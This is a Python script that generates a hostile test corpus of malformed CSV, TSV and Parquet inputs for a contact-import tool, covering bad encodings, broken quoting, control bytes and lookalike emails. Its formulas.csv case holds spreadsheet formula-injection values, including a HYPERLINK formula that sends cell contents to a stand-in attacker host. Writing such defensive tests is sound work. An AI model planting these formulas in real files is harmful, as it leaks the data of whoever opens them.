"""Write the hostile corpus's input files (tests/hostile/corpus/NAME.*) from this one script.

The expectations (NAME.expect.toml) are written by hand; this script only makes the inputs, so
that every byte of a binary or oddly encoded file can be read here. Run it after changing a case:

    uv run python -m tests.hostile.make_corpus
"""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path

import polars as pl

CORPUS = Path(__file__).resolve().parent / "corpus"

HEADER = "email,first_name,last_name,tenant_id"


def lines(*rows: str, header: str = HEADER, end: str = "\n") -> bytes:
    return (end.join([header, *rows]) + end).encode("utf-8")


def text(value: str, encoding: str) -> bytes:
    return value.encode(encoding)


NAMES = (
    "zoe.muller@example.com,Zoë,Müller,h-1\n"
    "francois@example.com,François,Lefèvre,h-2\n"
    "ana@example.com,Ana,Núñez,h-3\n"
)
# Curly quotes, an apostrophe and an en dash: the bytes 0x93, 0x94, 0x92 and 0x96 in cp1252.
SMART = (
    "quinn@example.com,\u201cQuinn\u201d,O\u2019Hara,h-10\n"
    "rui@example.com,Rui,Ara\u00fajo\u2013Lima,h-11\n"
)


def _xlsx() -> bytes:
    """A minimal workbook: the ZIP container Excel writes, with one sheet."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, body in (
            ("[Content_Types].xml", '<?xml version="1.0"?><Types/>'),
            ("xl/workbook.xml", '<?xml version="1.0"?><workbook/>'),
            ("xl/worksheets/sheet1.xml", '<?xml version="1.0"?><worksheet/>'),
        ):
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            archive.writestr(info, body)
    return buffer.getvalue()


def _parquet(frame: pl.DataFrame) -> bytes:
    buffer = io.BytesIO()
    frame.write_parquet(buffer, statistics=False)
    return buffer.getvalue()


def _wrong_types() -> bytes:
    return _parquet(
        pl.DataFrame(
            {
                "email": ["pq1@example.com", "pq2@example.com", None, "pq4@example.com"],
                # pandas writes an integer column with a gap as float64, the gap as NaN.
                "tenant_id": [1001.0, float("nan"), 1003.0, 1004.0],
                "first_name": [True, False, None, True],
                "last_name": [7, None, 9, 10],
                "tags": [["blog", "food"], [], None, ["video"]],
                "history": [[[1, 2], [3]], None, [], [[4]]],
                "notes": pl.Series([None, None, None, None], dtype=pl.Null),
            }
        )
    )


CASES: dict[str, Callable[[], bytes]] = {
    # --- encodings -------------------------------------------------------------------------
    "latin1.csv": lambda: text(HEADER + "\n" + NAMES, "latin-1"),
    "latin1_declared.csv": lambda: text(HEADER + "\n" + NAMES, "latin-1"),
    "utf16_bom.csv": lambda: text(HEADER + "\n" + NAMES, "utf-16"),
    "utf16le_no_bom.csv": lambda: text(HEADER + "\n" + NAMES, "utf-16-le"),
    "utf16be_no_bom.csv": lambda: text(HEADER + "\n" + NAMES, "utf-16-be"),
    "utf8_bom.csv": lambda: b"\xef\xbb\xbf" + (HEADER + "\n" + NAMES).encode(),
    "cp1252_smart_quotes.csv": lambda: text(HEADER + "\n" + SMART, "cp1252"),
    "cp1252_declared.csv": lambda: text(HEADER + "\n" + SMART, "cp1252"),
    "cp1252_read_as_latin1.csv": lambda: text(HEADER + "\n" + SMART, "cp1252"),
    "binary_garbage.csv": lambda: bytes(range(256)) * 4,
    # --- structure ---------------------------------------------------------------------------
    "ragged_too_many.csv": lambda: lines(
        "r1@example.com,Ray,One,r-1",
        "r2@example.com,Ray,Two,r-2,surplus",
        "r3@example.com,Ray,Three,r-3",
    ),
    "ragged_too_few.csv": lambda: lines(
        "f1@example.com,Fay,One,f-1",
        "f2@example.com,Fay",
        "f3@example.com,Fay,Three,f-3",
    ),
    "trailing_separators.csv": lambda: lines(
        "t1@example.com,Tia,One,t-1,",
        "t2@example.com,Tia,Two,t-2",
        "t3@example.com,Tia,Three,t-3,,,",
        header=HEADER + ",",
    ),
    "unbalanced_quote_eof.csv": lambda: lines(
        "u1@example.com,Uma,One,u-1",
        'u2@example.com,"Uma,Two,u-2',
        "u3@example.com,Uma,Three,u-3",
    ),
    "unbalanced_quote_swallows_rows.csv": lambda: lines(
        "s1@example.com,Sam,One,s-1",
        's2@example.com,"Sam,Two,s-2',
        "s3@example.com,Sam,Three,s-3",
        's4@example.com,Sam",Four,s-4',
        "s5@example.com,Sam,Five,s-5",
    ),
    "stray_quotes.csv": lambda: lines(
        'o1@example.com,Orla,O"Brien,o-1',
        'o2@example.com,"O"Brien,Orla,o-2',
        'o3@example.com,"Orla ""Q"" Quinn",Three,o-3',
    ),
    "nul_byte_in_cell.csv": lambda: lines(
        "n1@example.com,Nia,One,n-1",
        "n2@example.com,Nia\x00,Two,n-2",
        "n3@example.com,Nia,Three,n-3",
        "n4\x00@example.com,Nia,Four,n-4",
    ),
    "nul_in_header.csv": lambda: b"em\x00ail,first_name\nnh@example.com,Nia\n",
    "control_characters.csv": lambda: lines(
        "c1@example.com,Cal\x1b[31m,One,c-1",
        "c2@example.com,Cal,Two,c-2\x07",
        "c3@example.com,Cal,Three,c-3",
    ),
    "duplicate_headers.csv": lambda: b"email,first_name,email\nd1@example.com,Dee,d2@example.com\n",
    "duplicate_headers_case.csv": lambda: b"email,Email\nd1@example.com,d2@example.com\n",
    "duplicate_headers_spaces.csv": lambda: b"email, email \nd1@example.com,d2@example.com\n",
    "blank_header_with_data.csv": lambda: b"email,,last_name\nb1@example.com,Bea,One\n",
    "header_spaces_and_case.csv": lambda: (
        b"  EMAIL ,First_Name\xc2\xa0,\xe2\x80\x8bLAST_NAME, Tenant_ID \n"
        b"hc1@example.com,Hal,One,hc-1\nhc2@example.com,Hal,Two,hc-2\n"
    ),
    "no_email_column.csv": lambda: b"E-mail,Name\nne@example.com,Ned\n",
    "empty.csv": lambda: b"",
    "whitespace_only.csv": lambda: b"  \r\n\t\n\n",
    "header_only.csv": lambda: lines(),
    "crlf.csv": lambda: lines(
        "cr1@example.com,Cy,One,cr-1", "cr2@example.com,Cy,Two,cr-2", end="\r\n"
    ),
    "lone_cr.csv": lambda: lines(
        "lc1@example.com,Lu,One,lc-1", "lc2@example.com,Lu,Two,lc-2", end="\r"
    ),
    "blank_lines.csv": lambda: lines(
        "bl1@example.com,Bo,One,bl-1",
        "",
        "bl2@example.com,Bo,Two,bl-2",
        "   ",
        "bl3@example.com,Bo,Three,bl-3",
        "",
        "",
    ),
    "multiline_cells.csv": lambda: (
        b"email,first_name,last_name,description\n"
        b'm1@example.com,Mo,One,"Line one,\nline two"\n'
        b'm2@example.com,"Mo\nMo",Two,plain\n'
        b"m3@example.com,Mo,Three,plain\n"
    ),
    "carriage_return_in_cell.csv": lambda: lines(
        '"cr1\r@example.com",Cy,One,cr-1', "cr2@example.com,Cy,Two,cr-2"
    ),
    "leading_blank_lines.csv": lambda: b"\n  \n\r\n" + lines("lb1@example.com,Lee,One,lb-1"),
    "title_line_above_header.csv": lambda: (
        b"Partner export, 2024-05-01\n"
        + lines("tl1@example.com,Tia,One,tl-1", "tl2@example.com,Tia,Two,tl-2")
    ),
    "header_missing_a_column.csv": lambda: lines(
        "hm1@example.com,Hal,Miss,hm-1",
        "hm2@example.com,Hal,Miss,hm-2",
        header="email,first_name,last_name",
    ),
    "all_empty_rows.csv": lambda: lines("ae1@example.com,Al,One,ae-1", ",,,", ",,,"),
    "repeated_header_row.csv": lambda: lines(
        "rh1@example.com,Rhea,One,rh-1", HEADER, "rh2@example.com,Rhea,Two,rh-2"
    ),
    "semicolons_with_sep_line.csv": lambda: (
        b"sep=;\r\nemail;first_name;last_name;tenant_id\r\n"
        b"sc1@example.com;Sal;One;sc-1\r\nsc2@example.com;Sal;Two;sc-2\r\n"
    ),
    "tab_separated.tsv": lambda: (
        b"email\tfirst_name\tlast_name\ttenant_id\n"
        b"tb1@example.com\tTab\tOne\ttb-1\ntb2@example.com\tTab\tTwo, Jr.\ttb-2\n"
    ),
    "mapping_missing_column.csv": lambda: lines("mm@example.com,Mia,Moss,mm-1"),
    # --- not CSV at all ----------------------------------------------------------------------
    "json_renamed.csv": lambda: json.dumps(
        [{"email": "j1@example.com", "name": "Jo"}, {"email": "j2@example.com"}], indent=2
    ).encode(),
    "jsonl_renamed.csv": lambda: b'{"email": "j1@example.com"}\n{"email": "j2@example.com"}\n',
    "xlsx_renamed.csv": _xlsx,
    "parquet_renamed.csv": lambda: _parquet(pl.DataFrame({"email": ["p@example.com"]})),
    "csv_renamed.parquet": lambda: lines("cp@example.com,Cy,Pq,cp-1"),
    "parquet_wrong_types.parquet": _wrong_types,
    # --- emails --------------------------------------------------------------------------------
    "emails_case_and_spaces.csv": lambda: lines(
        "  EXISTING.partner@example.COM ,Ex,Isting,",
        "Ann.Lee@Example.com,Ann,Lee,al-1",
        " ann.lee@example.com,Ann,Again,",
        "ann lee@example.com,Ann,Space,al-3",
        "\tKIM@example.ORG\t,Kim,Tab,crm-200",
    ),
    "emails_lookalikes.csv": lambda: lines(
        "v\u0430l@example.com,Val,Cyrillic,la-1",
        "val\uff20example.com,Val,Fullwidth,la-2",
        "va\u200bl@example.com,Val,ZeroWidthInside,la-3",
        "\u200bzw@example.com\u200b,Zed,ZeroWidthAround,la-4",
        "\u00a0nb@example.com\u00a0,Nel,NbspAround,la-5",
        "n\u00a0b@example.com,Nel,NbspInside,la-6",
        "zw@example.com,Zed,SameAsRow4,la-7",
        "\ufeffbom@example.com,Bo,BomAround,la-8",
    ),
    "emails_idn.csv": lambda: lines(
        "ann@b\u00fccher.de,Ann,Idn,idn-1",
        "ann@xn--bcher-kva.de,Ann,Punycode,idn-2",
        "jos\u00e9@example.com,Jose,Local,idn-3",
        "ivan@\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444,Ivan,Cyrillic,idn-4",
    ),
    "formulas.csv": lambda: lines(
        '=HYPERLINK("http://evil.example/?leak="&A1;"click")@example.com,Eve,Link,fx-1',
        'fx2@example.com,"=HYPERLINK(""http://evil.example"",""click"")",Name,fx-2',
        "fx3@example.com,+1+1,Plus,=1+1",
        "fx4@example.com,-2+3,Minus,-fx-4",
        "fx5@example.com,@SUM(A1:A9),At,@fx-5",
        "-fx6@example.com,Dash,Email,fx-6",
        "fx7@example.com,Eve,Country,fx-7",
    ),
    "formula_in_country.csv": lambda: (
        b"email,first_name,country\nfc1@example.com,Fi,=CMD()\nfc2@example.com,Fo,de\n"
    ),
    "email_lookup_mixed_case.csv": lambda: lines("  KIM@EXAMPLE.ORG ,Kim,Upper,"),
    "unknown_encoding.csv": lambda: lines("ue@example.com,Uli,Enc,ue-1"),
    "duplicates_by_tenant.csv": lambda: lines(
        "dt1@example.com,Dot,One,dt-1",
        "dt2@example.com,Dot,Two,dt-1",
        "other@example.com,Dot,Three,crm-100",
    ),
}

MAPPINGS = {
    "mapping_missing_column.mapping.toml": (
        'provider = "dub"\n\n[fields.email]\ncolumn = "Partner Email"\n\n'
        '[fields.name]\njoin = ["first_name", "last_name"]\n'
    ),
}


def main() -> None:
    CORPUS.mkdir(exist_ok=True)
    for name, make in CASES.items():
        (CORPUS / name).write_bytes(make())
    for name, body in MAPPINGS.items():
        (CORPUS / name).write_text(body, encoding="utf-8")


if __name__ == "__main__":
    main()
